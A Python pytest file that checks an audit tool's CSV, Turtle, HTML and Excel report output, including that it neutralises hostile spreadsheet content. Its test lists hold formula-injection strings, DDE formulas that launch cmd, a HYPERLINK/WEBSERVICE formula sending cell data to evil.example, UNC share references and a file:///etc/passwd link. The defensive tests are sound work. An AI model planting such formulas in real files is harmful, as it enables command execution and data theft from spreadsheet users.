"""An audit to take home: CSV, Turtle, HTML and the submitter's own workbook, all of them safe."""

from __future__ import annotations

import csv as lines
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pyoxigraph as ox
import pytest
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName

from kb.reports.finding import (
    Assessment,
    Audit,
    AuditedFile,
    Clause,
    Ends,
    Finding,
    Outcome,
    Quote,
    Severity,
)
from kb.reports.output import csv, html, turtle, workbook
from kb.reports.output.view import View
from kb.reports.sheet import COLUMNS, Cell, Row, Sheet, Upload
from kb.terms import SH
from kb.text import Text

BASE = "https://w3id.org/plankb/"
LETTERS: dict[str, str] = dict(zip(COLUMNS, "ABCDEFGH", strict=True))
TARGET = BASE + "id/jiangjin-6-4/rural/target/headcount"
HOSTILE = ("=1+1", "@SUM(A1)", "<script>alert(1)</script>", "\u202etxt.exe", "x" * 10_000, "a\x00b")


def sheet_of(file: str, name: str | None, *rows: tuple[str, ...]) -> Sheet:
    made = []
    for number, texts in enumerate(rows, 2):
        cells: dict[str, Cell] = {
            column: Cell(file, name, number, column, f"{LETTERS[column]}{number}", text)
            for column, text in zip(COLUMNS, texts, strict=False)
        }
        made.append(Row(number, cells))
    return Sheet(file, "0" * 64, name, LETTERS, tuple(made))


def finding(
    *cells: Cell,
    severity: Severity = "violation",
    outcome: Outcome = "violated",
    message: str = "wrong",
    reported: Ends | None = None,
    computed: Ends | None = None,
) -> Finding:
    quote = Quote("jiangjin-6-4-article", 2743, 2757, "完成高素质农民培训4000人")
    return Finding(
        "cumulative-falls", severity, outcome, Text(f"不对：{message}", message),
        Text("核对", "check"), cells, BASE + "id/o1", reported, computed,
        (Clause(TARGET, (quote,)),),
    )  # fmt: skip


def audit_of(sheet: Sheet, *findings: Finding) -> Audit:
    return Audit(
        (AuditedFile(sheet.file, sheet.sha256, len(sheet.rows)),),
        findings,
        (Assessment(TARGET, "rural", 2023, "behind", Text("慢", "slow")),),
        "r1",
    )


@pytest.fixture
def sheet() -> Sheet:
    return sheet_of(
        "r.csv",
        None,
        ("agriculture", "rural", "i", "2022", "400", "人", "cumulative", "=1+1"),
        ("agriculture", "rural", "i", "2023", "380", "人", "cumulative", ""),
    )


@pytest.fixture
def audit(sheet: Sheet) -> Audit:
    now, before = sheet.rows[1].cells["value"], sheet.rows[0].cells["value"]
    ends = (Decimal(380), Decimal(380)), (Decimal("400.50"), None)
    return audit_of(
        sheet,
        finding(now, before, reported=ends[0], computed=ends[1]),
        finding(before, severity="info", outcome="not-evaluable"),
    )


# ------------------------------------------------------------------------- CSV


def test_csv_has_a_line_for_each_finding_and_cell(audit: Audit) -> None:
    written = csv.write(audit).decode("utf-8-sig")
    rows = list(lines.DictReader(io.StringIO(written)))
    assert [(row["finding"], row["cell"], row["value"]) for row in rows] == [
        ("1", "E3", "380"),
        ("1", "E2", "400"),
        ("2", "E2", "400"),
    ]
    assert (rows[0]["reported_low"], rows[0]["computed_low"]) == ("380", "400.5")
    assert rows[0]["computed_high"] == ""
    assert rows[0]["quotes"] == "完成高素质农民培训4000人"


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_csv_starts_a_formula(sheet: Sheet, text: str) -> None:
    cell = Cell(text, text, 2, "value", "E2", text)
    written = csv.write(audit_of(sheet, finding(cell, message=text))).decode("utf-8-sig")
    for row in lines.reader(io.StringIO(written)):
        assert not any(part.startswith(("=", "+", "-", "@", "\t", "\r")) for part in row)


# ------------------------------------------------------------------------- Turtle


def test_turtle_is_a_standard_validation_report(audit: Audit) -> None:
    store = ox.Store()
    store.load(turtle.write(audit, BASE, "jiangjin-6-4"), ox.RdfFormat.TURTLE)
    found = store.query(
        f"""PREFIX sh: <{SH}> PREFIX : <{BASE}ns#> PREFIX audit: <{BASE}audit#>
        SELECT ?severity ?row ?low WHERE {{
            ?report a sh:ValidationReport ; sh:conforms false ; sh:result ?result .
            ?result a sh:ValidationResult ; sh:focusNode ?focus ; sh:resultSeverity ?severity ;
                sh:sourceShape ?shape ; sh:sourceConstraintComponent ?component ;
                sh:resultMessage ?message ; audit:cell [ audit:address ?cell ; :row ?row ] .
            OPTIONAL {{ ?result audit:computedLow ?low }}
            FILTER(LANG(?message) = "zh")
        }} ORDER BY DESC(?severity) ?row"""
    )
    assert isinstance(found, ox.QuerySolutions)
    rows = [(row["severity"].value, row["row"].value, row["low"]) for row in found]
    assert [(severity, row) for severity, row, _ in rows] == [
        (SH + "Violation", "2"),
        (SH + "Violation", "3"),
        (SH + "Info", "2"),
    ]
    assert rows[0][2].value == "400.5"


def test_the_same_audit_is_the_same_turtle_without_blank_nodes(audit: Audit) -> None:
    once, again = (turtle.write(audit, BASE, "jiangjin-6-4") for _ in range(2))
    assert once == again
    assert b"_:" not in once


def test_turtle_explains_the_words_that_only_an_audit_has(audit: Audit) -> None:
    quads = list(ox.parse(turtle.write(audit, BASE, "p"), format=ox.RdfFormat.TURTLE))
    own = {quad.predicate.value for quad in quads if "/audit#" in quad.predicate.value}
    explained = {quad.subject.value for quad in quads if quad.predicate.value.endswith("#comment")}
    assert own
    assert own <= explained


@pytest.mark.parametrize("text", HOSTILE)
def test_turtle_and_html_hold_any_text(sheet: Sheet, text: str) -> None:
    cell = Cell(text, None, 2, "value", "E2", text)
    audit = audit_of(sheet, finding(cell, message=text))
    assert list(ox.parse(turtle.write(audit, BASE, "p"), format=ox.RdfFormat.TURTLE))
    page = html.write(View.of(audit, [sheet], {})).decode()
    assert "<script" not in page


# ------------------------------------------------------------------------- HTML


def test_html_shows_each_finding_with_its_cells_and_the_marked_table(
    audit: Audit, sheet: Sheet
) -> None:
    page = html.write(View.of(audit, [sheet], {TARGET: Text("总量", "headcount")})).decode()
    assert "不对：wrong" in page
    assert 'href="#s1-E3"' in page
    assert re.search(r'id="s1-E3"[^>]*class="violation first"', page)
    assert "≥ 400.5" in page
    assert "完成高素质农民培训4000人" in page
    assert "总量" in page
    assert "headcount" in page
    # It needs nothing, and nothing in it acts.
    assert not re.search(r"<(?:script|link|img|iframe|object)|\ssrc=|url\(", page)


def test_a_long_table_says_how_many_rows_it_leaves_out() -> None:
    rows = [("a", "rural", "i", "2022", str(n), "人", "stock", "") for n in range(600)]
    sheet = sheet_of("long.csv", None, *rows)
    last = sheet.rows[-1].cells["value"]
    page = html.write(View.of(audit_of(sheet, finding(last)), [sheet], {})).decode()
    assert "99 行没有发现" in page
    assert 'id="s1-E601"' in page


def test_the_file_has_the_colours_of_the_service(root: Path) -> None:
    def tokens(path: Path) -> list[dict[str, str]]:
        found = re.findall(r"(?:^|\n)\s*:root[^{]*\{([^}]*)\}", path.read_text("utf-8"))
        return [dict(re.findall(r"(--[\w-]+):\s*([^;]+);", block)) for block in found]

    both = tokens(root / "server/static/style.css")[0]
    for place, mine in enumerate(tokens(root / "kb/reports/output/static/standalone.css")[:2]):
        # The service has light and dark in one value, which a file for old browsers has not.
        theirs = {
            name: re.sub(r"light-dark\((.*), (.*)\)", rf"\{place + 1}", value)
            for name, value in both.items()
        }
        assert mine == {name: theirs[name] for name in mine}


# ------------------------------------------------------------------------- the workbook


def opened(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def of_rows(*rows: tuple[str | int, ...], title: str = "填报 report") -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.title = title
    for row in (COLUMNS, *rows):
        page.append(list(row))
    return book


def saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_csv_comes_back_as_a_workbook_with_its_marks(audit: Audit, sheet: Sheet) -> None:
    book = opened(workbook.write(audit, [Upload("r.csv", b"x")], [sheet]))
    page = book.worksheets[0]
    assert page["E3"].value == "380"
    assert page["E3"].fill.fgColor.rgb == "FFF4B6B0"
    assert page["E3"].comment is not None
    assert "cumulative-falls" in page["E3"].comment.text
    assert page["A2"].comment is None
    listed = book.worksheets[1]
    assert listed["F3"].value == "E3"
    assert listed["F3"].hyperlink.location == "'1 r.csv'!E3"
    assert "不对" in listed["H3"].value


def test_the_submitters_own_workbook_is_kept(sheet: Sheet) -> None:
    book = of_rows(("agriculture", "rural", "i", 2022, 400, "人", "stock", "说明"))
    page = book.worksheets[0]
    page["E2"].number_format = "#,##0"
    page["E2"].comment = Comment("mine", "somebody")
    page["J1"] = "=SUM(E2:E9)"
    page.column_dimensions["C"].width = 33
    book.create_sheet("extra")["A1"] = "kept"
    upload = Upload("own.xlsx", saved(book))
    own = sheet_of(
        "own.xlsx", page.title, ("agriculture", "rural", "i", "2022", "400", "人", "stock", "说明")
    )
    audit = audit_of(own, finding(own.rows[0].cells["value"]))
    given = workbook.write(audit, [upload], [own])
    back = opened(given)
    assert back.sheetnames == ["填报 report", "extra", "审核发现 findings"]
    cell = back.worksheets[0]["E2"]
    assert (cell.value, cell.number_format) == (400, "#,##0")
    assert cell.comment is not None
    assert cell.comment.text.startswith("mine")
    assert "check" in cell.comment.text
    assert back.worksheets[0]["J1"].value == "=SUM(E2:E9)"
    assert back.worksheets[0].column_dimensions["C"].width == 33
    # Handed in again without the fault, the marks and the list of before are gone.
    again = opened(workbook.write(audit_of(own), [Upload("own.xlsx", given)], [own]))
    cell = again.worksheets[0]["E2"]
    assert cell.comment is not None
    assert cell.comment.text.strip() == "mine"
    assert cell.fill.fill_type is None
    assert again.sheetnames.count("审核发现 findings") == 1


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        '=WEBSERVICE("http://evil.example")',
        "='[other.xlsx]Sheet1'!A1",
        "='\\\\evil\\share\\[x.xls]S'!A1",
        '=DDE("cmd";"/C calc";"x")',
        "=_xlfn.RTD(1)",
        '=IF(1,INDIRECT("A1"))',
    ],
)
def test_a_formula_that_does_more_than_reckon_comes_back_as_text(
    sheet: Sheet, formula: str
) -> None:
    book = of_rows(("a", "rural", "i", 2022, formula, "人", "stock", ""))
    book.defined_names["evil"] = DefinedName("evil", attr_text=formula.removeprefix("="))
    upload = Upload("own.xlsx", saved(book))
    given = workbook.write(audit_of(sheet), [upload], [])
    cell = opened(given).worksheets[0]["E2"]
    assert (cell.value, cell.data_type) == (formula, "s")
    with zipfile.ZipFile(io.BytesIO(given)) as packed:
        everything = b"".join(packed.read(name) for name in packed.namelist())
    assert b"<f>" not in everything
    assert b"definedName " not in everything


def test_links_lead_to_the_web_only(sheet: Sheet) -> None:
    book = of_rows(("a", "rural", "i", 2022, 1, "人", "stock", ""))
    page = book.worksheets[0]
    for place, target in enumerate(("file:///etc/passwd", "\\\\evil\\x", "https://ok.example/"), 2):
        page.cell(place, 9, "link").hyperlink = target
    given = workbook.write(audit_of(sheet), [Upload("own.xlsx", saved(book))], [])
    page = opened(given).worksheets[0]
    links = [page.cell(place, 9).hyperlink for place in (2, 3, 4)]
    assert [link and link.target for link in links] == [None, None, "https://ok.example/"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_made_workbook_holds_any_text_as_text(text: str) -> None:
    sheet = sheet_of(f"{text}.csv", text, (text,) * 8)
    audit = audit_of(sheet, finding(sheet.rows[0].cells["value"], message=text))
    book = opened(workbook.write(audit, [Upload("r.csv", b"x")], [sheet]))
    assert all(
        cell.data_type != "f"
        for page in book.worksheets
        for row in page.iter_rows()
        for cell in row
    )


def test_what_could_not_be_read_says_why(sheet: Sheet) -> None:
    why = Text("没有标题行", "it has no headings")
    audit = Audit((), (), (), "r1", {"=evil.csv": why})
    upload = [Upload("=evil.csv", b"x")]
    assert "没有标题行" in csv.write(audit).decode()
    assert "没有标题行" in html.write(View(audit)).decode()
    assert "'=evil.csv" in csv.write(audit).decode()
    page = opened(workbook.write(audit, upload, [])).worksheets[0]
    assert (page["D3"].value, page["D3"].data_type) == ("=evil.csv", "s")
